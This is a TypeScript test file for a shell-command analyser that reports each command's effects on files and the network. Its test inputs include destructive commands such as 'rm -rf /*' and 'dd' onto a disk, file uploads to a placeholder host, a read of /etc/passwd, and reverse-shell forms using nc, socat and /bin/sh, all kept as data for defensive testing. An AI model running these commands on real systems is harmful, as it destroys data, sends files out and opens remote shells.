import { describe, expect, test } from 'bun:test';
import { does, last } from './reads.ts';

describe('readCommand with files', () => {
  test.each<[string, readonly string[]]>([
    ['rm a b', ['deletes /work/a', 'deletes /work/b']],
    ['rm -rf -- -x', ['deletes /work/-x and all below']],
    ['rm -rf ./a/../b//c/', ['deletes /work/b/c and all below']],
    ['rm -rf *', ['deletes /work/* and all below']],
    ['rm -rf /*', ['deletes /* and all below']],
    ['rmdir a', ['deletes /work/a']],
    ['unlink a', ['deletes /work/a']],
    ['shred -u -n 3 a', ['deletes /work/a']],
    [
      'mv a b',
      ['reads /work/a and all below', 'deletes /work/a and all below', 'writes /work/b and all below'],
    ],
    ['cp -r a b', ['reads /work/a and all below', 'writes /work/b and all below']],
    ['cp -t d a b', ['writes /work/d', 'reads /work/a', 'reads /work/b']],
    ['ln -s a b', ['lists /work/a', 'writes /work/b']],
    ['install -m 755 a b', ['reads /work/a', 'writes /work/b']],
    ['mkdir -p a', ['writes /work/a']],
    ['touch a', ['writes /work/a']],
    ['truncate -s 0 a', ['writes /work/a']],
    ['chmod -R 777 a', ['writes /work/a and all below']],
    ['chown me:me a', ['writes /work/a']],
    ['cat a - b', ['reads /work/a', 'reads /work/b']],
    ['head -n 5 a', ['reads /work/a']],
    ['grep -r x a', ['reads /work/a and all below']],
    ['grep -e x -f p a', ['reads /work/p', 'reads /work/a']],
    ['rg x', ['reads /work and all below']],
    ['sed s/a/b/ f', ['reads /work/f']],
    ['sed -i.bak -e s/a/b/ f', ['reads /work/f', 'writes /work/f']],
    ['sort -o out a', ['writes /work/out', 'reads /work/a']],
    ['tee a', ['writes /work/a']],
    ['tee -a a', ['appends to /work/a']],
    ['dd if=a of=b bs=1M', ['reads /work/a', 'writes /work/b']],
    ['dd if=/dev/zero of=/dev/sda', ['writes /dev/sda']],
    [
      'tar czf out.tgz a b',
      ['writes /work/out.tgz', 'reads /work/a and all below', 'reads /work/b and all below'],
    ],
    ['tar -xf a.tar -C d', ['reads /work/a.tar', 'writes /work/d and all below']],
    ['tar tf a.tar', ['reads /work/a.tar']],
    ['zip -r out.zip a', ['writes /work/out.zip and all below', 'reads /work/a and all below']],
    ['unzip a.zip -d d', ['writes /work/d', 'reads /work/a.zip']],
    ['rsync -a a/ b/', ['reads /work/a and all below', 'writes /work/b and all below']],
    [
      'rsync -a --delete a/ b/',
      ['reads /work/a and all below', 'writes /work/b and all below', 'deletes /work/b and all below'],
    ],
    ['ls', ['lists /work']],
    ['ls -R a', ['lists /work/a and all below']],
    ['du -sh a', ['lists /work/a and all below']],
    ['test -f a', ['lists /work/a']],
    ['[ -e a ]', ['lists /work/a']],
    ['[[ -d a && -r b ]]', ['lists /work/a', 'lists /work/b']],
    ['base64 a', ['reads /work/a']],
    ['xxd a', ['reads /work/a']],
    ['openssl enc -in a -out b', ['reads /work/a', 'writes /work/b']],
    ['mkfs.ext4 /dev/sdb1', ['writes /dev/sdb1']],
    [
      'docker run -v /etc:/mnt:ro -v /srv:/srv image',
      ['reads /etc and all below', 'writes /srv and all below'],
    ],
    ['tool a', ['is given /work/a']],
    ['tool --file=a', ['is given /work/a']],
    ['a > b', ['writes /work/b']],
    ['a >> b', ['appends to /work/b']],
    ['a < b', ['reads /work/b']],
    ['a <> b', ['reads /work/b', 'writes /work/b']],
    ['a &> b', ['writes /work/b']],
    ['a >& b', ['writes /work/b']],
    ['a 2> b >| c', ['writes /work/b', 'writes /work/c']],
    ['a {fd}> b', ['writes /work/b']],
    ['> b', ['writes /work/b']],
    ['{ a; } > b', ['writes /work/b']],
    ['a > /dev/null 2>&1 < /dev/null', []],
    ['for f in a b; do rm $f; done', ['deletes /work/a', 'deletes /work/b']],
    ['rm "$X/a"', ['deletes ‹$X›/a']],
  ])('says what %p does', (text, effects) => {
    expect(does(text)).toEqual([...effects]);
  });

  test.each([
    ['cd src && rm a', 'deletes /work/src/a'],
    ['cd src; cd ..; rm a', 'deletes /work/a'],
    ['cd /srv/x/ && rm ../a', 'deletes /srv/a'],
    ['cd && rm a', 'deletes /home/me/a'],
    ['cd ~/x; rm a', 'deletes /home/me/x/a'],
    ['cd -P -- src; rm a', 'deletes /work/src/a'],
    ['cd a; cd -; rm b', 'deletes /work/b'],
    ['(cd src; rm a); rm b', 'deletes /work/b'],
    ['cd src | rm b', 'deletes /work/b'],
    ['cd src & rm b', 'deletes /work/b'],
    ['{ cd src; }; rm a', 'deletes /work/src/a'],
    ['f() { cd src; }; f; rm a', 'deletes /work/src/a'],
    ['cd src || exit 1; rm a', 'deletes /work/src/a'],
    ['cd src || { mkdir src && cd src; }; rm a', 'deletes /work/src/a'],
    ['cd "$X" && rm a', 'deletes ‹$X›/a'],
    ['cd "$X/y" && rm ../a', 'deletes ‹$X›/a'],
    ['if x; then cd a; else cd b; fi; rm c', 'deletes ‹$PWD›/c'],
    ['pushd src; rm a', 'deletes /work/src/a'],
    ['pushd src; popd; rm a', 'deletes /work/a'],
    ['cd src && rm -rf "$PWD"', 'deletes /work/src and all below'],
    ['cd src && rm -rf "$OLDPWD/a"', 'deletes /work/a and all below'],
    ['for d in a b; do cd $d; done; rm c', 'deletes /work/a/b/c'],
    ['rm ~/a', 'deletes /home/me/a'],
    ['rm "$HOME"/a', 'deletes /home/me/a'],
    ["rm '~/a'", 'deletes /work/~/a'],
    ['rm ~other/a', 'deletes ‹~other›/a'],
  ])('knows the folder: %p %s', (text, effect) => {
    expect(does(text).at(-1)).toBe(effect);
  });

  test.each([
    ['rm a', 'deletes a'],
    ['rm ../a', 'deletes ../a'],
    ['cd b; rm a', 'deletes b/a'],
    ['rm ~/a', 'deletes ~/a'],
    ['rm $HOME/.ssh/id', 'deletes ~/.ssh/id'],
    ["rm '~/a'", 'deletes ./~/a'],
    ['cd; rm a', 'deletes ~/a'],
    ['rm $PWD/a', 'deletes ‹$PWD›/a'],
  ])('says where it starts from if that is not known: %p %s', (text, effect) => {
    expect(does(text, {})).toEqual([effect]);
  });
});

describe('readCommand with the network', () => {
  test.each<[string, readonly string[]]>([
    ['curl https://x.example/a', ['fetches https://x.example/a (http)']],
    ['curl -sS -H "A: b" -o f x.example', ['fetches x.example (http)', 'writes /work/f']],
    ['curl -d @f x.example', ['reads /work/f', 'sends to x.example (http)']],
    ['curl -F file=@f x.example', ['reads /work/f', 'sends to x.example (http)']],
    ['curl --data-urlencode a@f x.example', ['reads /work/f', 'sends to x.example (http)']],
    ['curl -d a=b x.example', ['sends to x.example (http)']],
    ['curl -d user@host x.example', ['sends to x.example (http)']],
    ['curl -T f x.example', ['reads /work/f', 'sends to x.example (http)']],
    ['curl -G -d q=1 x.example', ['fetches x.example (http)']],
    ['curl --url x.example', ['fetches x.example (http)']],
    ['curl file:///etc/passwd', ['fetches file:///etc/passwd (http)', 'reads /etc/passwd']],
    ['curl -O https://x.example/a/b.sh', ['fetches https://x.example/a/b.sh (http)', 'writes /work/b.sh']],
    ['wget https://x.example/b.sh', ['fetches https://x.example/b.sh (http)', 'writes /work/b.sh']],
    ['wget -qO- https://x.example', ['fetches https://x.example (http)']],
    ['wget --post-file=f x.example', ['reads /work/f', 'sends to x.example (http)']],
    ['nc x.example 80', ['connects to x.example (tcp)']],
    ['nc -lvp 4444', []],
    ['ssh me@x.example ls', ['connects to me@x.example (ssh)', 'lists /work']],
    ['scp f me@x.example:/tmp', ['reads /work/f', 'sends to me@x.example:/tmp (ssh)']],
    ['scp x.example:f .', ['fetches x.example:f (ssh)', 'writes /work']],
    ['rsync -a d/ x.example:d/', ['reads /work/d and all below', 'sends to x.example:d/ (rsync)']],
    ['socat - TCP:x.example:80', ['connects to x.example:80 (tcp)']],
    ['echo a > /dev/tcp/x.example/80', ['connects to x.example:80 (tcp)']],
    ['ping -c 1 x.example', ['connects to x.example (icmp)']],
    ['dig @8.8.8.8 x.example', ['connects to @8.8.8.8 (dns)', 'connects to x.example (dns)']],
    ['tool https://x.example', ['connects to https://x.example (http)']],
  ])('says what %p does', (text, effects) => {
    expect(does(text)).toEqual([...effects]);
  });

  test.each(['nc -e /bin/sh x.example 80', 'socat TCP:x.example:80 EXEC:/bin/sh', "rsync -e '/bin/sh' a b"])(
    'sees the shell in %p',
    (text) => {
      expect(last(text).name).toBe('sh');
    },
  );
});
